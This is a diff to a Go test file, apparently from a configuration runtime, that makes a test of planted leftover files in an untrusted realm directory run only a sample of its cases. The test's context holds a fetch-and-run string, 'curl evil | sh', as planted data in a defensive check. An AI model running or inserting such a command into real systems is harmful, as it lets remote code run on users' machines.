@@ -13,6 +13,7 @@ import (
 	"realmconf/runtime/internal/disk"
 	"realmconf/runtime/store"
 	"realmconf/runtime/store/storetest"
+	"realmconf/schema/tree/treetest"
 )
 
 // A realm's directory may come from a stranger: what lies in it is data, and no
@@ -44,10 +45,14 @@ var reads = map[string]func(*testing.T, *Store){
 // place of the config, nor in that of the file that the config leads to.
 func TestRead_plantedLeftoverReplacesNothing(t *testing.T) {
 	const profile, planted = "PATH=/bin\n", "curl evil | sh\n"
+	n := 0
 	for _, linked := range []bool{true, false} {
 		for _, kind := range []string{"config", "config.kept", "state", "lock", "stale", "other"} {
 			for _, st := range []string{"", `{"generation": 0}`, `{"generation": 1}`} {
 				for name, read := range reads {
+					if n++; n%treetest.Stride(5) != 0 {
+						continue
+					}
 					t.Run(fmt.Sprintf("%s linked %v, %s, state %q", name, linked, kind, st), func(t *testing.T) {
 						r := newFastRealm(t)
 						document := r.path("config.toml")
